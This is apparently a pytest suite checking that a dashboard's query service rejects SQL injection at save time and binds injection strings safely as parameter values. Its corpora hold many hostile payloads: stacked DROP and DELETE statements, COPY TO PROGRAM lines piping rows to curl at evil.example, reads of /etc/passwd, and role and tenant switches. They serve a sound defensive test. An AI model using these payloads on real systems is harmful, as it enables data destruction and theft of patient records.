"""SQL injection through QueryService, both ways in: in the SQL itself (refused when the query is
saved, with the line and column of the problem) and as bound values of every string-like
parameter type (which come back verbatim as data or match nothing). After each corpus the
database is proven unchanged: row counts and a checksum of the demo tables, and the list of
tables, views, functions and roles."""

from __future__ import annotations

import re
import uuid
from collections.abc import Callable
from typing import Any

import grpc
import psycopg
import pytest

from dashboard.v1 import common_pb2 as c
from dashboard.v1 import query_pb2 as q
from server.devtools.demo_data import install
from server.queries.frame import frame_to_rows
from tests.harness.rpc import failure_of

Code = grpc.StatusCode
NORTH = "north-general"
T = q.ParameterType
Metadata = tuple[tuple[str, str], ...]


@pytest.fixture(scope="module")
def dsn(migrated: str) -> str:
    install(migrated)
    return migrated.replace("postgresql+psycopg://", "postgresql://", 1)


@pytest.fixture
def editor(auth: Callable[..., Metadata]) -> Metadata:
    return auth(f"injector-{uuid.uuid4().hex[:8]}", "editor", NORTH)


def state_of(dsn: str) -> dict[str, object]:
    """What an injection could change: the demo rows (count and checksum per table), every
    relation, function, role, and the saved queries."""
    with psycopg.connect(dsn, autocommit=True) as conn:
        state: dict[str, object] = {}
        for table in ("demo.admissions", "demo.sites"):
            state[table] = conn.execute(
                f"SELECT count(*), md5(coalesce(string_agg(t::text, '|' ORDER BY t::text), '')) FROM {table} AS t"
            ).fetchone()
        state["relations"] = conn.execute(
            "SELECT n.nspname, c.relname, c.relkind FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace "
            "WHERE n.nspname NOT IN ('pg_catalog', 'information_schema', 'pg_toast') ORDER BY 1, 2"
        ).fetchall()
        state["functions"] = conn.execute(
            "SELECT p.oid::regprocedure::text FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace "
            "WHERE n.nspname NOT IN ('pg_catalog', 'information_schema') ORDER BY 1"
        ).fetchall()
        state["roles"] = conn.execute("SELECT rolname, rolsuper FROM pg_roles ORDER BY 1").fetchall()
        state["policies"] = conn.execute("SELECT * FROM pg_policies ORDER BY 1, 2, 3").fetchall()
        state["saved queries"] = conn.execute("SELECT count(*) FROM widget_queries").fetchone()
    return state


# --- in the SQL: refused at save time --------------------------------------------------------------

SQL_CORPUS: list[str] = [
    # stacked queries
    "SELECT 1; DROP TABLE demo.admissions",
    "SELECT 1;\nDELETE FROM demo.admissions",
    "SELECT 1 AS one; SELECT 2 AS two",
    "SELECT * FROM demo.admissions WHERE unit = ''; DROP TABLE demo.admissions; --'",
    "SELECT '\\'; DROP TABLE demo.admissions; --'",  # no backslash escapes in a standard string
    # comment tricks
    "SELECT 1 /* ; */ ; DROP TABLE demo.admissions --",
    "SELECT 1 -- harmless\n; DELETE FROM demo.admissions",
    "SELECT 1 /* nested /* still */ closed */; TRUNCATE demo.admissions",
    "/**/DELETE/**/FROM/**/demo.admissions",
    "SELECT 1 /* unterminated ; DROP TABLE demo.admissions",
    # writes, also through CTEs and set operations
    "DELETE FROM demo.admissions",
    "UPDATE demo.admissions SET cost = 0",
    "INSERT INTO demo.sites VALUES ('x', 'y', 0, 0, 0)",
    "WITH gone AS (DELETE FROM demo.admissions RETURNING id) SELECT count(*) FROM gone",
    "WITH x AS (UPDATE demo.admissions SET cost = 0 RETURNING 1) SELECT * FROM x",
    "WITH x AS (INSERT INTO demo.sites VALUES ('x', 'y', 0, 0, 0) RETURNING 1) SELECT * FROM x",
    "SELECT 1 UNION ALL (WITH d AS (DELETE FROM demo.sites RETURNING 1) SELECT * FROM d)",
    "MERGE INTO demo.sites s USING demo.sites t ON false WHEN NOT MATCHED THEN DO NOTHING",
    "SELECT * INTO demo.stolen FROM demo.admissions",
    "SELECT * FROM demo.admissions FOR UPDATE",
    "SELECT * FROM demo.admissions FOR NO KEY UPDATE SKIP LOCKED",
    # DDL, COPY and other commands
    "DROP TABLE demo.admissions",
    "TRUNCATE demo.admissions",
    "CREATE TABLE demo.evil (x int)",
    "ALTER TABLE demo.admissions DISABLE ROW LEVEL SECURITY",
    "GRANT ALL ON demo.admissions TO PUBLIC",
    "COPY (SELECT 1) TO PROGRAM 'id'",
    "COPY demo.admissions TO PROGRAM 'curl -d @- http://evil.example'",
    "COPY demo.admissions TO '/tmp/admissions.csv'",
    "COPY demo.sites FROM '/etc/passwd'",
    "SET ROLE postgres",
    "SET tessera.facility_id = 'south-clinic'",
    "RESET ROLE",
    "DO $$ BEGIN DELETE FROM demo.admissions; END $$",
    "EXPLAIN ANALYZE DELETE FROM demo.admissions",
    "VACUUM demo.admissions",
    "LOCK TABLE demo.admissions",
    "NOTIFY evil",
    "PREPARE p AS DELETE FROM demo.admissions",
    "CALL demo.nothing()",
    # functions that write, sleep, read files or change settings
    "SELECT set_config('tessera.facility_id', 'south-clinic', true)",
    "SELECT * FROM demo.admissions WHERE set_config('role', 'postgres', false) IS NOT NULL",
    "SELECT pg_catalog.set_config('tessera.facility_id', '*', false)",
    "SELECT pg_sleep(10)",
    "SELECT PG_SLEEP(10)",
    'SELECT "pg_sleep"(10)',
    "SELECT pg_catalog.pg_sleep_for('1 hour')",
    "SELECT 1 FROM demo.sites WHERE pg_sleep_until(now() + interval '1 hour') IS NULL",
    'SELECT U&"\\0070g_sleep"(10)',
    "SELECT pg_read_file('/etc/passwd')",
    "SELECT lo_import('/etc/passwd')",
    "SELECT pg_ls_dir('.')",
    "SELECT dblink_exec('dbname=postgres', 'DROP TABLE demo.admissions')",
    "SELECT query_to_xml('DELETE FROM demo.admissions RETURNING 1', true, true, '')",
    "SELECT pg_advisory_lock(1)",
    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
    "SELECT txid_current()",
    "SELECT nextval('demo.admissions_id_seq')",
    "SELECT pg_reload_conf()",
    # relations that hold other facilities' rows without Row-Level Security
    "SELECT * FROM tessera_mv.q_00000000000000000000000000000000",
    "SELECT matviewname FROM pg_matviews WHERE schemaname = 'tessera_mv'",
    "SELECT most_common_vals::text FROM pg_stats",
    # placeholders that would sidestep binding, and quotes that are not quotes
    "SELECT * FROM demo.admissions WHERE mrn = $1",
    "SELECT * FROM demo.admissions WHERE mrn = %s",
    "SELECT * FROM demo.admissions WHERE mrn = %(mrn)s",
    "SELECT * FROM demo.admissions WHERE mrn = ?",
    "SELECT * FROM demo.admissions WHERE patient_name = \u2018x\u2019 OR 1=1",
    "SELECT * FROM demo.admissions WHERE patient_name = \u201cx\u201d",
    "SELECT * FROM demo.admissions WHERE patient_name = \uff07x\uff07",
    "SELECT * FROM demo.admissions WHERE patient_name = `x`",
    "SELECT * FROM demo.admissions WHERE patient_name = 'x",
    "SELECT $tag$ unterminated",
]

POSITION = re.compile(r"\(line (\d+), column (\d+)\)")


def test_injection_in_the_sql_is_refused_at_save_time_with_its_position(
    queries: Any, editor: Metadata, dsn: str
) -> None:
    before = state_of(dsn)
    problems: list[str] = []
    for sql in SQL_CORPUS:
        request = q.CreateQueryRequest(query=q.Query(name=f"evil {uuid.uuid4().hex[:8]}", sql=sql))
        try:
            created = queries.CreateQuery(request, metadata=editor)
        except grpc.RpcError as error:
            failure = failure_of(error)
            if failure.code != Code.INVALID_ARGUMENT or "query.sql" not in failure.fields:
                problems.append(f"{sql!r}: {failure.code} {failure.fields} {failure.message}")
                continue
            positions = [POSITION.search(description) for field, description in failure.violations]
            if not any(positions):
                problems.append(f"{sql!r}: no line/column in {failure.violations}")
            for found in positions:
                if found and not (1 <= int(found[1]) <= sql.count("\n") + 1 and int(found[2]) >= 1):
                    problems.append(f"{sql!r}: position out of the text: {found[0]}")
        else:
            problems.append(f"{sql!r} was saved as {created.id}")
    assert not problems, "\n".join(problems)
    assert state_of(dsn) == before


def test_a_refusal_points_at_the_offending_text(queries: Any, editor: Metadata) -> None:
    sql = "SELECT id,\n       cost\nFROM demo.admissions\nWHERE unit = 'x' AND pg_sleep(1) IS NULL"
    with pytest.raises(grpc.RpcError) as caught:
        queries.CreateQuery(q.CreateQueryRequest(query=q.Query(name="sleepy", sql=sql)), metadata=editor)
    failure = failure_of(caught.value)
    assert failure.code == Code.INVALID_ARGUMENT
    [description] = [d for f, d in failure.violations if f == "query.sql"]
    assert "pg_sleep" in description and "(line 4, column 22)" in description
    stacked = "SELECT 1 AS one;\n  DROP TABLE demo.admissions"
    with pytest.raises(grpc.RpcError) as caught:
        queries.CreateQuery(q.CreateQueryRequest(query=q.Query(name="stacked", sql=stacked)), metadata=editor)
    assert any("(line 2, column 3)" in d for _, d in failure_of(caught.value).violations)


# --- as values: bound, never spliced ----------------------------------------------------------------

VALUE_CORPUS: list[str] = [
    "' OR 1=1 --",
    "' OR '1'='1",
    "x' OR facility_id <> 'x",
    "'; DROP TABLE demo.admissions; --",
    "'); DELETE FROM demo.admissions; --",
    "Robert'); DROP TABLE demo.sites;--",
    "1; DELETE FROM demo.admissions",
    "' UNION SELECT patient_name FROM demo.admissions --",
    "' UNION ALL SELECT mrn, mrn FROM demo.admissions WHERE facility_id = 'south-clinic' --",
    "$$; DROP TABLE demo.admissions; $$",
    "$tag$ DROP TABLE demo.admissions $tag$",
    "\u2018 OR \u20181\u2019=\u20191",
    "\u201c; DROP TABLE demo.admissions; --",
    "\uff07; DROP TABLE demo.sites; --",
    "\u02bc OR 1=1 --",
    "\\'; DROP TABLE demo.admissions; --",
    "\\\\'; DROP TABLE demo.admissions; --",
    "\\x27 OR 1=1",
    "E'\\x27' OR 1=1",
    "/* */ OR /**/ 1=1 --",
    "*/ OR 1=1 /*",
    "-- ",
    ":facility_id",
    ":s",
    "%(facility_id)s",
    "%s%s%s",
    "%%",
    "?",
    "$1",
    "'; SELECT pg_sleep(10); --",
    "'; SELECT set_config('tessera.facility_id', '*', false); --",
    "'; COPY demo.admissions TO PROGRAM 'curl evil.example'; --",
    "'; WITH x AS (DELETE FROM demo.admissions RETURNING 1) SELECT 1; --",
    "south-clinic",
    "*",
    "line one\n'; DROP TABLE demo.admissions;\r\n--",
    "\t\u00a0\u200b'\u200b OR 1=1",
    "Zoë Brontë — 王小明 — محمد علي",
    "🙂' OR '🙂'='🙂",
    "'" * 200,
    "''''; DROP TABLE demo.admissions; ''''",
    '"; DROP TABLE demo.admissions; --',
    "' AND 1=CAST((SELECT string_agg(mrn, ',') FROM demo.admissions) AS int) --",
]


def test_injection_values_come_back_verbatim_or_match_nothing(queries: Any, editor: Metadata, dsn: str) -> None:
    def create(sql: str, *parameters: q.ParameterSpec) -> str:
        request = q.CreateQueryRequest(
            query=q.Query(name=f"bound {uuid.uuid4().hex[:8]}", sql=sql, parameters=list(parameters))
        )
        return str(queries.CreateQuery(request, metadata=editor).id)

    def run(query_id: str, **values: c.ParameterValue) -> list[dict[str, object]]:
        response = queries.RunQuery(q.RunQueryRequest(id=query_id, parameter_values=values), metadata=editor)
        return frame_to_rows(response.frame)

    def string(value: str) -> c.ParameterValue:
        return c.ParameterValue(string_value=value)

    def strings(*values: str) -> c.ParameterValue:
        return c.ParameterValue(list_value=c.ParameterValueList(values=[string(v) for v in values]))

    echo = create("SELECT :s AS echoed", q.ParameterSpec(name="s", type=T.PARAMETER_TYPE_STRING))
    echo_enum = create(
        "SELECT :e AS echoed",
        q.ParameterSpec(name="e", type=T.PARAMETER_TYPE_ENUM, allowed_values=VALUE_CORPUS),
    )
    echo_list = create(
        "SELECT x AS echoed FROM unnest(CAST(:sl AS text[])) WITH ORDINALITY AS u(x, n) ORDER BY n",
        q.ParameterSpec(name="sl", type=T.PARAMETER_TYPE_STRING, list=True),
    )
    echo_enum_list = create(
        "SELECT x AS echoed FROM unnest(CAST(:el AS text[])) WITH ORDINALITY AS u(x, n) ORDER BY n",
        q.ParameterSpec(name="el", type=T.PARAMETER_TYPE_ENUM, list=True, allowed_values=VALUE_CORPUS),
    )
    match = create(
        "SELECT count(*) AS n FROM demo.admissions WHERE patient_name = :s OR mrn = :s OR unit = ANY(:sl)",
        q.ParameterSpec(name="s", type=T.PARAMETER_TYPE_STRING),
        q.ParameterSpec(name="sl", type=T.PARAMETER_TYPE_STRING, list=True),
    )
    number = create("SELECT :i AS i", q.ParameterSpec(name="i", type=T.PARAMETER_TYPE_INT))

    before = state_of(dsn)
    for value in VALUE_CORPUS:
        assert run(echo, s=string(value)) == [{"echoed": value}]
        assert run(echo_enum, e=string(value)) == [{"echoed": value}]
        assert run(match, s=string(value), sl=strings(value, value.upper())) == [{"n": 0}]
        with pytest.raises(grpc.RpcError) as caught:
            run(number, i=string(value))  # a string is never an INT, whatever it says
        assert failure_of(caught.value).fields == ['parameter_values["i"]']
    assert run(echo_list, sl=strings(*VALUE_CORPUS)) == [{"echoed": v} for v in VALUE_CORPUS]
    assert run(echo_enum_list, el=strings(*reversed(VALUE_CORPUS))) == [{"echoed": v} for v in reversed(VALUE_CORPUS)]
    assert state_of(dsn) == before
    # The same queries still do their job with ordinary values.
    name = str(direct_first_name(dsn))
    assert run(match, s=string(name), sl=strings()) != [{"n": 0}]


def direct_first_name(dsn: str) -> object:
    with psycopg.connect(dsn, autocommit=True) as conn:
        row = conn.execute(
            "SELECT patient_name FROM demo.admissions WHERE facility_id = %s ORDER BY id LIMIT 1", (NORTH,)
        ).fetchone()
    assert row is not None
    return row[0]
